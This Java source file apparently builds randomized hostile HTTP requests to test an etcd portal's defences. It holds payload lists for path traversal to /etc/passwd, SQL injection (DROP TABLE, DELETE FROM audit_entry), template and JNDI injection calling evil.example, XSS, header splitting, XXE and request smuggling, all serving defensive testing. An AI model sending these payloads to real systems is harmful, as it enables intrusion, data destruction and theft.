package io.etcdportal;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import io.etcdportal.AccessLandscape.Call;

import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;

/**
 * Requests that nobody in their right mind would send. The same seed and number always make the
 * same one.
 */
final class HostileRequests {

    /** What {@link #FORMULAS} come to for whoever works them out. */
    static final String RESULT = "62615533";

    /** A header that must never come back. */
    static final String PLANTED = "X-Planted";

    /** A host that nobody must be sent to. */
    static final String ELSEWHERE = "evil.example";

    private static final String CLUSTER = "{site}/{namespace}/{cluster}";
    private static final List<String> CLUSTERS =
            List.of(
                    "eu/payments/ledger",
                    "eu/payments/stock",
                    "eu/payments/nobody",
                    "eu/platform/registry");
    private static final Pattern VARIABLE = Pattern.compile("\\{[a-z]+}|\\*\\*");
    private static final Pattern REQUEST_LINE =
            Pattern.compile(
                    "[-!#$%&'*+.^_`|~0-9A-Za-z]+ [-A-Za-z0-9._~:/?@!$&'()*+,;=%]+ HTTP/1\\.1\r\n");
    private static final int LONGEST = 60_000;
    private static final String BACKUP = "3.5.16_0000000000000025_etcd.backup";

    private static final List<String> TRAVERSALS =
            List.of(
                    "../../../../etc/passwd",
                    "..%2f..%2f..%2fetc%2fpasswd",
                    "%2e%2e/%2e%2e/",
                    "%252e%252e%252fetc%252fpasswd",
                    "..\\..\\windows",
                    "..%5c..%5c",
                    "%c0%ae%c0%ae/",
                    "....//....//",
                    ".%00./",
                    "..;/..;/",
                    "%25252e%25252e/",
                    "v1%2Fbackup",
                    "%2F%2F",
                    "%2fv1%2fstatus%2f..%2fbackup",
                    "/etc/passwd%00.backup",
                    "file:///etc/passwd",
                    ".",
                    "..",
                    "/",
                    "//" + ELSEWHERE + "/");

    private static final List<String> STATEMENTS =
            List.of(
                    "' OR '1'='1",
                    "1; DROP TABLE token--",
                    "' UNION SELECT 1,2,3,4,5,6--",
                    "\\'; DELETE FROM audit_entry; --",
                    "%' AND 1=1 AND '%'='",
                    "'||(SELECT 1)||'",
                    "\";",
                    "_%",
                    "%",
                    "*",
                    "\\");

    private static final List<String> FORMULAS =
            List.of(
                    "${7919*7907}",
                    "#{7919*7907}",
                    "*{7919*7907}",
                    "@{7919*7907}",
                    "~{7919*7907}",
                    "__${7919*7907}__::.x",
                    "[[${7919*7907}]]",
                    "[(${7919*7907})]",
                    "{{7919*7907}}",
                    "<%=7919*7907%>",
                    "${jndi:ldap://" + ELSEWHERE + "/a}",
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>");

    private static final List<String> SPLITTERS =
            List.of(
                    "%0d%0a" + PLANTED + ":%20yes",
                    "\r\n" + PLANTED + ": yes",
                    "\n" + PLANTED + ": yes",
                    "\r" + PLANTED + ": yes",
                    "%E5%98%8A%E5%98%8D" + PLANTED + ":yes",
                    "%0d%0a%0d%0a<script>alert(1)</script>",
                    "\u0085" + PLANTED + ": yes");

    private static final List<String> ODDITIES =
            List.of(
                    "",
                    " ",
                    "%00",
                    "\u0000",
                    "%ff%fe",
                    "\u00ff\u00fe\u0080",
                    "%ed%a0%80",
                    "%f0%9f%98%80",
                    "%e2%80%ae",
                    "%",
                    "%zz",
                    "%u0041",
                    "null",
                    "true",
                    "-1",
                    "0",
                    "2147483648",
                    "9223372036854775807",
                    "9223372036854775808",
                    "-9223372036854775808",
                    "1e309",
                    "NaN",
                    "0x10",
                    "%d9%a1%d9%a2",
                    "9999-12-31",
                    "2026-02-30",
                    "-999999999-01-01",
                    "%2b1000000000-12-31T23:59:59Z",
                    "292278994-08-17T07:12:55Z",
                    "3.5",
                    "3.99999999999.1",
                    "0.0.0",
                    "a/b/c/d",
                    "*/*/*",
                    "EU/Payments/REGISTRY",
                    "eu/payments/ledger",
                    "%d0%b5u/payments/ledger",
                    "le%e2%80%8bdger",
                    "%ef%bd%8cedger",
                    "ledge%cc%81r",
                    "%e2%80%aeregdel",
                    "%c2%adledger",
                    "local/admin",
                    "team:payments",
                    "https://" + ELSEWHERE + "/",
                    "//" + ELSEWHERE,
                    "javascript:alert(1)");

    private static final List<String> PARAMETERS =
            List.of(
                    "q",
                    "site",
                    "namespace",
                    "state",
                    "sort",
                    "cursor",
                    "limit",
                    "etcdVersion",
                    "etcdRevision",
                    "members",
                    "token",
                    "dataDirectory",
                    "kubernetes",
                    "user",
                    "groups",
                    "verb",
                    "cluster",
                    "person",
                    "since",
                    "from",
                    "to",
                    "event",
                    "outcome",
                    "team",
                    "backup",
                    "source",
                    "address",
                    "folded",
                    "format",
                    "after",
                    "through",
                    "everybody",
                    "failed",
                    "provider",
                    "error",
                    "error_description",
                    "code",
                    "iss",
                    "theme",
                    "language",
                    "zone",
                    "saved",
                    "name",
                    "days",
                    "verbs",
                    "clusters",
                    "addresses",
                    "allowUnsealed",
                    "history",
                    "member",
                    "endpoints",
                    "username",
                    "password",
                    "_csrf",
                    "_method",
                    "logout_token",
                    "class.module.classLoader.x",
                    "continue",
                    "redirect",
                    "a[0][b]",
                    "__proto__");

    private static final List<String> METHODS =
            List.of(
                    "TRACE",
                    "TRACK",
                    "CONNECT",
                    "PROPFIND",
                    "OPTIONS",
                    "PATCH",
                    "PUT",
                    "DELETE",
                    "POST",
                    "HEAD",
                    "GET",
                    "get",
                    "QUERY",
                    "PRI",
                    "FOO",
                    "G\u0000ET",
                    "GE(T)",
                    "A".repeat(300));

    private static final List<String> HEADERS =
            List.of(
                    "Range",
                    "If-Range",
                    "If-Match",
                    "If-None-Match",
                    "If-Modified-Since",
                    "If-Unmodified-Since",
                    "Accept",
                    "Accept-Language",
                    "Accept-Encoding",
                    "Accept-Charset",
                    "Content-Type",
                    "Content-Encoding",
                    "Content-Range",
                    "Cookie",
                    "Referer",
                    "Origin",
                    "Sec-Fetch-Mode",
                    "Upgrade",
                    "Expect",
                    "TE",
                    "Trailer",
                    "Forwarded",
                    "X-Forwarded-For",
                    "X-Forwarded-Host",
                    "X-Forwarded-Proto",
                    "X-Forwarded-Port",
                    "X-Forwarded-Prefix",
                    "X-Original-URL",
                    "X-Rewrite-URL",
                    "X-HTTP-Method-Override",
                    "X-Request-Id",
                    "X-CSRF-TOKEN",
                    "Want-Repr-Digest",
                    "User-Agent",
                    "Via",
                    "Max-Forwards",
                    "Proxy-Authorization",
                    "HTTP2-Settings",
                    "Sec-WebSocket-Key",
                    "X");

    private static final List<String> RANGES =
            List.of(
                    "bytes=0-0",
                    "bytes=-1",
                    "bytes=1-0",
                    "bytes=0-",
                    "bytes=-0",
                    "bytes=",
                    "bytes=0-0,2-3,5-",
                    "bytes=99999999999999999999-",
                    "bytes=0-99999999999999",
                    "bytes=a-b",
                    "bits=0-1",
                    "bytes=0-0" + ",1-1".repeat(500),
                    "bytes = 0 - 1",
                    "bytes=--1",
                    "bytes=9223372036854775807-9223372036854775807");

    private static final List<String> CONDITIONS =
            List.of(
                    "*",
                    "\"\"",
                    "\"a\"",
                    "W/\"a\"",
                    "a",
                    "\"a",
                    "\"a\",\"b\",",
                    ",",
                    "\"\u00ff\"",
                    "Wed, 21 Oct 2015 07:28:00 GMT",
                    "Thu, 01 Jan 1970 00:00:00 GMT",
                    "Fri, 31 Dec 9999 23:59:59 GMT",
                    "yesterday",
                    "\"a\"" + ",\"b\"".repeat(800));

    private static final List<String> FORWARDED =
            List.of(
                    "for=203.0.113.9:51008",
                    "for=\"[2001:db8::5]:4711\";proto=https",
                    "for=unknown",
                    "for=_hidden;host=" + ELSEWHERE + ";proto=https",
                    "for=127.0.0.1, for=" + ELSEWHERE,
                    "for=\"",
                    "for=;;,,=",
                    "for=[::1",
                    "for=::ffff:127.0.0.1%eth0",
                    "203.0.113.9:99999",
                    "[2001:db8::5",
                    "unknown, , ,",
                    "0x7f.1",
                    "for=1.2.3.4" + ",for=1.2.3.4".repeat(500),
                    "for=" + "1".repeat(7_000));

    private static final List<String> TYPES =
            List.of(
                    "application/json",
                    "application/x-www-form-urlencoded",
                    "text/xml",
                    "application/xml",
                    "multipart/form-data",
                    "multipart/form-data; boundary=a",
                    "application/json;charset=utf-7",
                    "application/x-java-serialized-object",
                    "text/html",
                    "*/*",
                    "a",
                    "/",
                    ";",
                    "application/json;q=;",
                    "image/*;q=2",
                    "application/problem+json",
                    "text/plain, */*;q=0." + "0".repeat(100));

    private static final List<String> PROOFS =
            List.of(
                    "Bearer",
                    "Bearer ",
                    "Bearer  x",
                    "bearer ebp_",
                    "Bearer ebp_0123456789ab",
                    "Bearer ebp_0123456789ab_" + "a".repeat(38) + "_00000000",
                    "Bearer ebp_' OR 1=1--_a_b",
                    "Bearer " + "a".repeat(6_000),
                    "Bearer a.b.c",
                    "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
                    "Bearer eyJhbGciOiJIUzI1NiJ9.e30.AA",
                    "Bearer ..",
                    "Bearer ....",
                    "Bearer \u00ff\u00fe",
                    "Bearer a, Bearer b",
                    "Basic",
                    "Basic ",
                    "Basic !!!!",
                    "Basic YWRtaW4=",
                    "Basic Og==",
                    "Basic YWRtaW46",
                    "Basic " + "QQ".repeat(3_000),
                    "Basic dGlja2V0OmVidF8=",
                    "Basic dGlja2V0OmVidF8wMTIzNDU2Nzg5YWJfYV9i",
                    "Basic /////w==",
                    "Digest username=\"admin\"",
                    "Negotiate YII=",
                    "NTLM",
                    "AWS4-HMAC-SHA256 Credential=a",
                    "Token x",
                    ",",
                    "=",
                    "Basic\tYWRtaW46YQ==");

    private static final List<String> COOKIES =
            List.of(
                    "EBP_SESSION=",
                    "EBP_SESSION=x",
                    "EBP_SESSION=" + "a".repeat(4_000),
                    "EBP_SESSION=' OR '1'='1",
                    "EBP_SESSION=\u00ff",
                    "EBP_SESSION=a; EBP_SESSION=b",
                    "EBP_FORM=x",
                    "EBP_FORM=",
                    "EBP_WHERE_TO=" + encoded("//" + ELSEWHERE),
                    "EBP_WHERE_TO=" + encoded("/\\" + ELSEWHERE),
                    "EBP_WHERE_TO=!!!",
                    "EBP_WHERE_TO=" + encoded("https://" + ELSEWHERE),
                    "EBP_SIGN_IN=a.b.c.d",
                    "EBP_THEME=<script>",
                    "EBP_LANGUAGE=..%2f",
                    "__Host-EBP_SESSION=x",
                    "$Version=1; a=b",
                    "=;=;;;",
                    "a",
                    "a=\"b",
                    "EBP_ZONE=Etc/../../passwd");

    private static final List<String> BODIES =
            List.of(
                    "{",
                    "[]",
                    "null",
                    "\"",
                    "{}",
                    "{\"name\":null}",
                    "{\"name\":{}}",
                    "{\"name\":\"a\",\"days\":1e999}",
                    "{\"name\":\"a\",\"days\":\"x\"}",
                    "{\"name\":\"\\u0000\"}",
                    "{\"name\":\"a\",\"verbs\":[\"all\"]}",
                    "{\"name\":\"a\",\"clusters\":\"../..\"}",
                    "{\"name\":\"a\",\"clusters\":[1]}",
                    "{\"name\":\"a\",\"addresses\":[\"' OR 1=1\"]}",
                    "{\"@class\":\"x\"}",
                    "{\"name\":\"a\",\"team\":\"' OR '1'='1\"}",
                    "[".repeat(5_000),
                    "{\"a\":".repeat(2_000),
                    "{\"name\":\"" + "a".repeat(50_000) + "\"}",
                    "{\"days\":" + "9".repeat(5_000) + "}",
                    "\u00ff\u00fe{\u0000}",
                    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM"
                            + " \"file:///etc/passwd\">]><a>&b;</a>",
                    "a=b&".repeat(300),
                    "username=" + "a".repeat(70_000),
                    "%",
                    "%=%",
                    "&&&=&",
                    "--a\r\nContent-Disposition: form-data; name=\"../x\"\r\n\r\ny\r\n--a--\r\n",
                    "theme=dark&theme=" + "\u0000".repeat(10),
                    "\u00ac\u00ed\u0000\u0005sr");

    /** What is no request at all. */
    private static final List<String> RUBBISH =
            List.of(
                    "\r\n\r\n\r\n",
                    "\u0000\u0000\u0000\u0000",
                    "GET\r\n\r\n",
                    "GET /\r\n\r\n",
                    "GET / HTTP/0.9\r\n\r\n",
                    "GET / HTTP/2.0\r\nHost: a\r\n\r\n",
                    "GET / HTTP/9.9\r\nHost: a\r\n\r\n",
                    "GET / http/1.1\r\nHost: a\r\n\r\n",
                    "GET / HTTP/1.1\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a b\r\n\r\n",
                    "GET / HTTP/1.1\nHost: a\n\n",
                    "GET / HTTP/1.1\r\nHost: a\r\nX\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a\r\n: x\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a\r\n X: folded\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a\r\nX: a\r\n b\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost : a\r\n\r\n",
                    "GET  /  HTTP/1.1\r\nHost: a\r\n\r\n",
                    "GET * HTTP/1.1\r\nHost: a\r\n\r\n",
                    "GET http://" + ELSEWHERE + "/login HTTP/1.1\r\nHost: a\r\n\r\n",
                    "GET http://[::1 HTTP/1.1\r\nHost: a\r\n\r\n",
                    "CONNECT " + ELSEWHERE + ":443 HTTP/1.1\r\nHost: a\r\n\r\n",
                    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                    "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
                    "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length:"
                            + " 2\r\n\r\nab",
                    "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding:"
                            + " chunked\r\n\r\n0\r\n\r\nGET /clusters HTTP/1.1\r\nHost: a\r\n\r\n",
                    "POST /login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked,"
                            + " chunked\r\n\r\n0\r\n\r\n",
                    "POST /login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\nabc",
                    "POST /login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
                    "POST /login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding:"
                            + " chunked\r\n\r\nffffffffffffffff\r\n",
                    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 9999999999999999999\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a\r\n" + "X: y\r\n".repeat(3_000) + "\r\n",
                    "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: a\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: a\r\nX: " + "a".repeat(20_000) + "\r\n\r\n",
                    "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003",
                    "SSH-2.0-OpenSSH_9.2\r\n",
                    "EHLO a\r\n");

    private final long seed;
    private final List<Call> calls;

    /**
     * A request, and who sends it.
     *
     * @param number which one of its seed it is
     * @param viewer who sends it, in the words of the table of endpoints
     * @param text exactly what is sent, a character for each byte
     * @param rubbish whether it is no request at all
     */
    record Hostile(int number, String viewer, String text, boolean rubbish) {

        byte[] bytes() {
            return text.getBytes(ISO_8859_1);
        }

        /** What can be printed of it. */
        @Override
        public String toString() {
            String start = text.length() > 2_000 ? text.substring(0, 2_000) + "…" : text;
            return "Request %d by %s: %s"
                    .formatted(number, viewer, start.replaceAll("[^\\x20-\\x7e\\n]", "?"));
        }
    }

    /**
     * @param calls what is there to call
     */
    HostileRequests(long seed, List<Call> calls) {
        this.seed = seed;
        this.calls = calls;
    }

    /**
     * {@return the request of that number}
     *
     * @param viewers who may send it, each with the lines of headers that prove who they are
     */
    Hostile get(int number, List<Sender> viewers) {
        return new Making(number, viewers).request();
    }

    /**
     * Somebody who sends requests.
     *
     * @param proof whole lines of headers
     */
    record Sender(String viewer, String proof) {}

    private static String encoded(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(ISO_8859_1));
    }

    /** One request while it is being made. */
    private final class Making {

        private final int number;
        private final Random random;
        private final Sender sender;

        Making(int number, List<Sender> viewers) {
            this.number = number;
            this.random = new Random(seed * 1_000_003 + number);
            random.nextInt();
            this.sender = viewers.get(random.nextInt(viewers.size()));
        }

        Hostile request() {
            if (often(4)) {
                return new Hostile(number, "nobody", corrupted(any(RUBBISH)), true);
            }
            Call call = any(calls);
            String method =
                    call.endpoint().method().equals("ANY") ? "GET" : call.endpoint().method();
            String body = body(call);
            StringBuilder text = new StringBuilder();
            text.append(often(12) ? any(METHODS) : method).append(' ');
            text.append(target(call)).append(" HTTP/1.1\r\nHost: portal\r\nConnection: close\r\n");
            text.append(often(15) ? "Authorization: " + any(PROOFS) + "\r\n" : sender.proof());
            for (int i = random.nextInt(4); i > 0; i--) {
                text.append(header());
            }
            if (!body.isEmpty()) {
                text.append("Content-Length: ").append(body.length()).append("\r\n");
            }
            text.append("\r\n").append(body);
            String sent = often(3) ? corrupted(text.toString()) : text.toString();
            return new Hostile(number, sender.viewer(), sent, isRubbish(sent));
        }

        /** What the server can't read to its end, it may leave without an answer. */
        private boolean isRubbish(String sent) {
            return sent.length() > LONGEST
                    || !sent.contains("\r\n\r\n")
                    || !REQUEST_LINE.matcher(sent).lookingAt();
        }

        private boolean often(int percent) {
            return random.nextInt(100) < percent;
        }

        private <T> T any(List<T> things) {
            return things.get(random.nextInt(things.size()));
        }

        private String evil() {
            return switch (random.nextInt(8)) {
                case 0 -> any(TRAVERSALS);
                case 1 -> any(STATEMENTS);
                case 2 -> any(FORMULAS);
                case 3 -> any(SPLITTERS);
                case 4 -> noise(1 + random.nextInt(40));
                case 5 -> "A".repeat(1 + random.nextInt(often(20) ? 9_000 : 400));
                case 6 -> encoded(noise(1 + random.nextInt(60)));
                default -> any(ODDITIES);
            };
        }

        private String noise(int length) {
            boolean wild = often(25);
            StringBuilder noise = new StringBuilder();
            for (int i = 0; i < length; i++) {
                noise.append((char) (wild ? random.nextInt(256) : '!' + random.nextInt(94)));
            }
            return noise.toString();
        }

        /**
         * Most of what is wrong in an address gets no further than the server if it is sent as it
         * is.
         */
        private String inAddress(String text) {
            if (often(5)) {
                return text;
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            for (byte b : text.getBytes(ISO_8859_1)) {
                boolean plain =
                        b == '%'
                                ? often(40)
                                : b > 0x20 && b < 0x7f && "\"<>\\^`{|}#&+?;[]".indexOf(b) < 0;
                if (plain) {
                    out.write(b);
                } else {
                    out.writeBytes("%%%02x".formatted(b & 0xff).getBytes(ISO_8859_1));
                }
            }
            return out.toString(ISO_8859_1);
        }

        private String target(Call call) {
            String path =
                    VARIABLE.matcher(of(call))
                            .replaceAll(
                                    found ->
                                            java.util.regex.Matcher.quoteReplacement(
                                                    part(found.group())));
            if (often(5)) {
                int at = random.nextInt(path.length() + 1);
                path = path.substring(0, at) + inAddress(evil()) + path.substring(at);
            }
            String query = call.sent().startsWith("?") && often(60) ? call.sent() : "?";
            StringBuilder all = new StringBuilder(query);
            for (int i = random.nextInt(4); i > 0; i--) {
                all.append('&').append(any(PARAMETERS)).append('=').append(inAddress(evil()));
            }
            return all.length() == 1 && often(80) ? path : path + all;
        }

        /** Most clusters are there, for some. */
        private String of(Call call) {
            String path = call.endpoint().path();
            return often(70) ? path.replace(CLUSTER, any(CLUSTERS)) : path;
        }

        private String part(String variable) {
            if (often(25)) {
                return inAddress(evil());
            }
            return switch (variable) {
                case "{site}" -> "eu";
                case "{namespace}" -> "payments";
                case "{cluster}" -> any(List.of("ledger", "stock", "nobody"));
                case "{backup}" -> BACKUP;
                case "{source}" -> "bucket";
                case "{provider}" -> "corp";
                default -> "0123456789ab";
            };
        }

        private String header() {
            String name = any(HEADERS);
            String value =
                    switch (name) {
                        case "Range" -> any(RANGES);
                        case "If-Range",
                                "If-Match",
                                "If-None-Match",
                                "If-Modified-Since",
                                "If-Unmodified-Since" ->
                                any(CONDITIONS);
                        case "Accept", "Content-Type" -> any(TYPES);
                        case "Cookie" -> any(COOKIES);
                        case "Forwarded", "X-Forwarded-For", "X-Forwarded-Host" -> any(FORWARDED);
                        case "Expect" -> "100-continue";
                        case "Upgrade" -> any(List.of("h2c", "websocket", "TLS/1.0"));
                        default -> evil();
                    };
            return name + ": " + (often(20) ? evil() : value) + "\r\n";
        }

        private String body(Call call) {
            boolean wanted = call.endpoint().method().equals("POST");
            if (!often(wanted ? 90 : 4)) {
                return "";
            }
            String usual = call.sent().startsWith("?") ? "" : call.sent();
            if (often(60)) {
                return any(BODIES);
            }
            List<String> fields = new ArrayList<>(List.of(usual));
            for (int i = random.nextInt(5); i > 0; i--) {
                fields.add(any(PARAMETERS) + "=" + inAddress(evil()));
            }
            return String.join("&", fields);
        }

        /** Some bytes are others, or gone. */
        private String corrupted(String text) {
            StringBuilder changed = new StringBuilder(text);
            for (int i = random.nextInt(3); i > 0 && !changed.isEmpty(); i--) {
                int at = random.nextInt(Math.min(changed.length(), 200));
                if (often(50)) {
                    changed.setCharAt(at, (char) random.nextInt(256));
                } else {
                    changed.deleteCharAt(at);
                }
            }
            return changed.toString();
        }
    }
}
